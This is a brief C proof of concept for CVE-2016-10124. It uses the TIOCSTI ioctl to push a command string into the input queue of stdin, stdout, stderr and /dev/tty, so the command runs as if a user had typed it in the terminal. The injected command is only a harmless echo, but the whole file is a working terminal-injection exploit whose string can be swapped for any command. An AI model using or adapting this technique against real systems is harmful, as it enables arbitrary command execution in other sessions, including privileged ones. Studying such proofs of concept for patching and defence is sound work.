/* CVE-2016-10124: types a command into every terminal that it can reach. */
#include <fcntl.h>
#include <stdio.h>
#include <sys/ioctl.h>

int main(void)
{
	const char *text = "echo pwn''ed-by-tiocsti\n";
	int fds[] = { 0, 1, 2, open("/dev/tty", O_RDWR) };

	for (int i = 0; i < 4; i++)
		for (const char *c = text; *c; c++)
			ioctl(fds[i], TIOCSTI, c);
	puts("pushed");
}
